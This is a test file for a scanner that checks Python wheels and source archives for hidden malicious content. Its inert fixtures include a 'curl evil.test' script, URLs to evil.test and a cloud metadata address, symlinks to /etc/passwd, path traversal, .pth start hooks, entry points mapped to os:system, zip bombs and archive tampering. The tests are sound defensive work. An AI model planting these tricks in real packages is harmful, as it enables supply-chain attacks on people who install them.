"""The scan of wheels and source archives against people who hide something in them."""

from __future__ import annotations

import importlib.util
import io
import stat
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from wheel_bench import (
    INFO,
    METADATA,
    PYPROJECT,
    SERVER,
    WHEEL,
    Files,
    honest_files,
    honest_sdist_files,
    record,
    sdist,
    wheel,
)

from mcp_wrapper_scaffold.lint.rules import RULES
from mcp_wrapper_scaffold.lint.settings import Settings
from mcp_wrapper_scaffold.scan.judging import scan
from mcp_wrapper_scaffold.scan.members import MAX_MEMBERS, MAX_TOTAL_BYTES


def codes(path: Path) -> set[str]:
    return {finding.code for finding in scan(path, Settings()).findings}


def test_an_honest_wheel_is_let_through(tmp_path: Path) -> None:
    found = scan(wheel(tmp_path, honest_files()), Settings())
    assert (found.findings, found.notes) == ((), ())


def test_an_honest_source_archive_is_let_through(tmp_path: Path) -> None:
    found = scan(sdist(tmp_path, honest_sdist_files()), Settings())
    assert (found.findings, found.notes) == ((), ())


# Members put into an honest wheel, with their lines in RECORD.
ADDED: dict[str, dict[str, Files]] = {
    "MW101": {"a socket in a source": {"notes_mcp/more.py": b"import socket\n"}},
    "MW103": {
        "a socket handed on": {
            "notes_mcp/a.py": b"import sys as s\n",
            "notes_mcp/b.py": b"from .a import s\ns.modules\n",
        }
    },
    "MW100": {"a source that is none": {"notes_mcp/more.py": b"def"}},
    "MW202": {
        "a way out": {"../notes.py": b""},
        "a way out of the package": {"notes_mcp/../../x.txt": b""},
        "an absolute name": {"/etc/notes.txt": b""},
        "a drive": {"C:/notes.txt": b""},
        "a backslash": {"notes_mcp\\more.py": b""},
        "a name twice in other letters": {"notes_mcp/SERVER.py": b""},
        "a blank at the end": {"notes_mcp/server.py ": b""},
        "an empty segment": {"notes_mcp//more.txt": b""},
        "a control character": {"notes_mcp/mo\x1bre.txt": b""},
    },
    "MW204": {
        "a library": {"notes_mcp/fast.so": b""},
        "a library with a tag": {"notes_mcp/fast.cpython-311-x86_64-linux-gnu.so": b""},
        "a library for Windows": {"notes_mcp/fast.pyd": b""},
        "a library as data": {"notes_mcp/logo.json": b"\x7fELF" + bytes(60)},
        "a program as a source": {"notes_mcp/more.py": b"MZ" + bytes(60)},
        "bytecode": {"notes_mcp/__pycache__/server.cpython-311.pyc": b""},
        "bytecode as data": {"notes_mcp/x.txt": importlib.util.MAGIC_NUMBER + bytes(12)},
        "WebAssembly": {"notes_mcp/x.md": b"\x00asm\x01\x00\x00\x00"},
    },
    "MW205": {
        "a path file": {"notes.pth": b"import socket\n"},
        "a start module": {"sitecustomize.py": b"import socket\n"},
        "a start module within": {"notes_mcp/usercustomize.py": b""},
        "scripts": {"notes_mcp-0.1.0.data/scripts/curl": b"#!python\n"},
        "more of the environment": {"notes_mcp-0.1.0.data/purelib/httpx2/__init__.py": b""},
    },
    "MW208": {
        "a plugin of another program": {
            f"{INFO}/entry_points.txt": b"[pytest11]\nnotes = notes_mcp.server\n"
        },
        "a command of another name": {
            f"{INFO}/entry_points.txt": b"[console_scripts]\npython = notes_mcp.server:app\n"
        },
        "a command of another package": {
            f"{INFO}/entry_points.txt": b"[console_scripts]\nnotes-mcp = os:system\n"
        },
        "what cannot be read": {f"{INFO}/entry_points.txt": b"notes\n"},
    },
    "MW209": {
        "a script": {"notes_mcp/run.sh": b"curl evil.test\n"},
        "a script without a suffix": {"notes_mcp/README": b"#!/bin/sh\n"},
        "Python as a text": {"notes_mcp/notes.txt": b"import socket\nsocket.socket()\n"},
        "a pickle": {"notes_mcp/model.pkl": b""},
        "a pickle as text": {"notes_mcp/model.txt": b"\x80\x04K\x01."},
        "an archive as JSON": {"notes_mcp/x.json": b"PK\x03\x04"},
        "JSON that is none": {"notes_mcp/x.json": b"import socket"},
        "a kind that nobody knows": {"notes_mcp/x.bin": b"x"},
        "text that is none": {"notes_mcp/x.txt": b"\xff\xfe"},
        "a file beside the metadata": {f"{INFO}/hook.py": b"import socket\n"},
    },
    "MW210": {
        "a URL in a source": {"notes_mcp/more.py": b'URL = "https://evil.test/x"\n'},
        "a URL in an f-string": {
            "notes_mcp/more.py": b'def f(x):\n    return f"wss://evil.test/{x}"\n'
        },
        "a URL put together": {"notes_mcp/more.py": b'URL = "https://" + "evil.test"\n'},
        "a host that only begins alike": {
            "notes_mcp/more.py": b'URL = "https://api.example.com.evil.test/"\n'
        },
        "a host behind a user": {
            "notes_mcp/more.py": b'URL = "https://api.example.com@evil.test/"\n'
        },
        "a URL in data": {"notes_mcp/x.json": b'{"a": ["http://169.254.169.254/latest"]}'},
        "a URL in settings": {"notes_mcp/x.toml": b'[api]\nurl = "https://evil.test/x"\n'},
    },
    "MW211": {
        "a client of its own": {"httpx2/__init__.py": b""},
        "the library": {"mcp_wrapper_scaffold/gate/fetch.py": b""},
        "a module beside": {"helper.py": b""},
        "a standard module": {"json.py": b""},
    },
}


@pytest.mark.parametrize(
    ("code", "added"),
    [
        pytest.param(code, files, id=f"{code}-{name}")
        for code, attacks in ADDED.items()
        for name, files in attacks.items()
    ],
)
def test_a_member_that_was_put_in_is_found(tmp_path: Path, code: str, added: Files) -> None:
    assert code in codes(wheel(tmp_path, {**honest_files(), **added}))


def _link(info: zipfile.ZipInfo) -> None:
    if info.filename == "notes_mcp/surface.json":
        info.external_attr = (stat.S_IFLNK | 0o777) << 16


def _device(info: zipfile.ZipInfo) -> None:
    if info.filename == "notes_mcp/surface.json":
        info.external_attr = (stat.S_IFIFO | 0o644) << 16


def _bzip(info: zipfile.ZipInfo) -> None:
    info.compress_type = zipfile.ZIP_BZIP2


CHANGES: dict[str, tuple[str, Callable[[zipfile.ZipInfo], None]]] = {
    "a link": ("MW203", _link),
    "a pipe": ("MW203", _device),
    "another packing": ("MW201", _bzip),
}


@pytest.mark.parametrize("name", CHANGES)
def test_a_member_that_is_no_plain_file_is_found(tmp_path: Path, name: str) -> None:
    code, change = CHANGES[name]
    assert code in codes(wheel(tmp_path, honest_files(), change=change))


REQUIREMENTS = {
    "a client": "httpx2",
    "a client for an extra": 'requests[socks]>=2; extra == "more"',
    "a package that nobody knows": "left-pad",
    "the library from elsewhere": "mcp-wrapper-scaffold @ https://evil.test/x.whl",
    "no name": "???",
}


@pytest.mark.parametrize("name", REQUIREMENTS)
def test_a_requirement_that_nobody_allowed_is_found(tmp_path: Path, name: str) -> None:
    metadata = METADATA + f"Requires-Dist: {REQUIREMENTS[name]}\n".encode()
    files = {**honest_files(), f"{INFO}/METADATA": metadata}
    assert codes(wheel(tmp_path, files)) == {"MW207"}


def _unlisted(files: Files) -> bytes:
    return record({name: content for name, content in files.items() if "server" not in name})


def _surplus(files: Files) -> bytes:
    return record({**files, "notes_mcp/gone.py": b""})


def _other(files: Files) -> bytes:
    return record({**files, "notes_mcp/server.py": SERVER + b"#"})


RECORDS: dict[str, Callable[[Files], bytes]] = {
    "a member that is not listed": _unlisted,
    "a member that is not there": _surplus,
    "a member that was changed": _other,
    "a hash that does not hold": lambda files: record(files).replace(b"sha256", b"md5"),
    "no hash": lambda files: b"".join(b"%s,,\n" % name.encode() for name in files),
    "a member twice": lambda files: record(files) * 2,
    "no table": lambda files: b'"\n',
    "too few fields": lambda files: b"notes_mcp/server.py\n",
}


@pytest.mark.parametrize("name", RECORDS)
def test_a_record_that_does_not_agree_is_found(tmp_path: Path, name: str) -> None:
    files = honest_files()
    members = {**files, f"{INFO}/RECORD": RECORDS[name](files)}
    assert codes(wheel(tmp_path, members, recorded=False)) == {"MW206"}


def test_a_wheel_without_a_record_is_found(tmp_path: Path) -> None:
    assert codes(wheel(tmp_path, honest_files(), recorded=False)) == {"MW206"}


def test_an_archive_in_front_of_the_archive_is_found(tmp_path: Path) -> None:
    path = wheel(tmp_path, honest_files())
    path.write_bytes(b"#!/bin/sh\n" + path.read_bytes())
    assert "MW201" in codes(path)


def test_something_between_two_members_is_found(tmp_path: Path) -> None:
    path = tmp_path / WHEEL
    files = honest_files()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in {**files, f"{INFO}/RECORD": record(files)}.items():
            archive.writestr(zipfile.ZipInfo(name), content)
            assert archive.fp is not None
            archive.fp.write(b"hidden")
            archive.start_dir = archive.fp.tell()
    assert "MW201" in codes(path)


def test_a_member_with_two_names_is_found(tmp_path: Path) -> None:
    path = wheel(tmp_path, honest_files())
    data = path.read_bytes()
    path.write_bytes(data.replace(b"notes_mcp/server.py", b"notes_mcp/hidden.py", 1))
    assert "MW201" in codes(path)


def test_a_name_that_goes_on_after_a_nul_is_found(tmp_path: Path) -> None:
    path = wheel(tmp_path, honest_files())
    data = path.read_bytes()
    path.write_bytes(data.replace(b"notes_mcp/surface.json", b"notes_mcp/more.py\x00son1"))
    assert "MW202" in codes(path)


def test_an_encrypted_member_is_found(tmp_path: Path) -> None:
    path = wheel(tmp_path, honest_files())
    data = bytearray(path.read_bytes())
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"notes_mcp/surface.json"))
    data[at + 8] |= 1
    path.write_bytes(data)
    assert "MW201" in codes(path)


def test_a_member_with_a_broken_checksum_is_found(tmp_path: Path) -> None:
    path = wheel(tmp_path, honest_files())
    data = bytearray(path.read_bytes())
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"notes_mcp/server.py"))
    data[at + 16] ^= 0xFF
    path.write_bytes(data)
    assert "MW201" in codes(path)


def test_a_comment_is_found(tmp_path: Path) -> None:
    path = wheel(tmp_path, honest_files())
    with zipfile.ZipFile(path, "a") as archive:
        archive.comment = b"PK\x05\x06"
    assert "MW201" in codes(path)


def test_a_bomb_is_found_and_not_unpacked(tmp_path: Path) -> None:
    bomb = {**honest_files(), "notes_mcp/x.txt": bytes(8 * 1024 * 1024)}
    found = scan(wheel(tmp_path, bomb), Settings()).findings
    assert any("times its size" in finding.message for finding in found)


def test_too_many_members_are_found(tmp_path: Path) -> None:
    many = {f"notes_mcp/{number}.txt": b"" for number in range(MAX_MEMBERS)}
    found = scan(wheel(tmp_path, {**honest_files(), **many}), Settings()).findings
    assert any(f"{MAX_MEMBERS + len(honest_files()) + 1} members" in each.message for each in found)


def test_what_is_no_archive_is_found(tmp_path: Path) -> None:
    (tmp_path / WHEEL).write_bytes(b"PK\x03\x04 and so on")
    assert codes(tmp_path / WHEEL) >= {"MW201"}


def test_a_wheel_for_a_platform_is_found(tmp_path: Path) -> None:
    path = wheel(tmp_path, honest_files(), name="notes_mcp-0.1.0-cp311-abi3-linux_x86_64.whl")
    assert codes(path) == {"MW204"}


def test_a_wheel_of_another_project_is_found(tmp_path: Path) -> None:
    files = {**honest_files(), f"{INFO}/METADATA": METADATA.replace(b"notes-mcp", b"other-mcp")}
    assert codes(wheel(tmp_path, files)) == {"MW201"}


SDISTS: dict[str, tuple[str, Files]] = {
    "a setup.py": ("MW212", {"setup.py": b"import socket\n"}),
    "a builder of its own": (
        "MW212",
        {
            "pyproject.toml": PYPROJECT.replace(
                b"build-backend", b'backend-path = ["."]\nbuild-backend'
            )
        },
    ),
    "a hook": ("MW212", {"pyproject.toml": PYPROJECT + b"[tool.hatch.build.hooks.custom]\n"}),
    "a builder that nobody knows": (
        "MW212",
        {"pyproject.toml": PYPROJECT.replace(b"hatchling>=1.27", b"evil-build")},
    ),
    "a builder from elsewhere": (
        "MW212",
        {"pyproject.toml": PYPROJECT.replace(b"hatchling>=1.27", b"hatchling @ https://evil.test")},
    ),
    "a socket": ("MW101", {"src/notes_mcp/more.py": b"import socket\n"}),
    "a library": ("MW204", {"src/notes_mcp/fast.so": b""}),
    "a library among the tests": ("MW204", {"tests/fast.so": b""}),
    "a path file": ("MW205", {"notes.pth": b""}),
    "data that is code": ("MW209", {"src/notes_mcp/run.sh": b""}),
    "a URL": ("MW210", {"src/notes_mcp/x.json": b'["https://evil.test"]'}),
    "a way out": ("MW202", {"../x": b""}),
    "a client as a requirement": ("MW207", {"PKG-INFO": METADATA + b"Requires-Dist: httpx\n"}),
}


@pytest.mark.parametrize("name", SDISTS)
def test_what_is_hidden_in_a_source_archive_is_found(tmp_path: Path, name: str) -> None:
    code, added = SDISTS[name]
    assert code in codes(sdist(tmp_path, {**honest_sdist_files(), **added}))


def test_a_link_in_a_source_archive_is_found(tmp_path: Path) -> None:
    link = tarfile.TarInfo("notes_mcp-0.1.0/src/notes_mcp/more.py")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    assert codes(sdist(tmp_path, honest_sdist_files(), link)) == {"MW203"}


def test_a_bomb_of_a_source_archive_is_not_unpacked(tmp_path: Path) -> None:
    bomb = tarfile.TarInfo("notes_mcp-0.1.0/x")
    bomb.size = MAX_TOTAL_BYTES
    path = tmp_path / "notes_mcp-0.1.0.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        archive.addfile(bomb, io.BytesIO(bytes(MAX_TOTAL_BYTES)))
    found = scan(path, Settings()).findings
    assert any("unpacks to more than" in each.message for each in found)


def test_every_rule_of_archives_has_an_attack_that_meets_it() -> None:
    shown = {*ADDED, "MW201", "MW203", "MW206", "MW207", *(code for code, _ in SDISTS.values())}
    assert {code for code in RULES if code >= "MW200"} <= shown


def test_hosts_are_not_compared_without_an_allowlist_and_it_is_said(tmp_path: Path) -> None:
    files = {**honest_files(), "notes_mcp/server.py": b'URL = "https://evil.test"\n'}
    found = scan(wheel(tmp_path, files), Settings())
    assert found.findings == ()
    assert found.notes == ("no allowlist was found in it: hosts of URLs were not compared",)
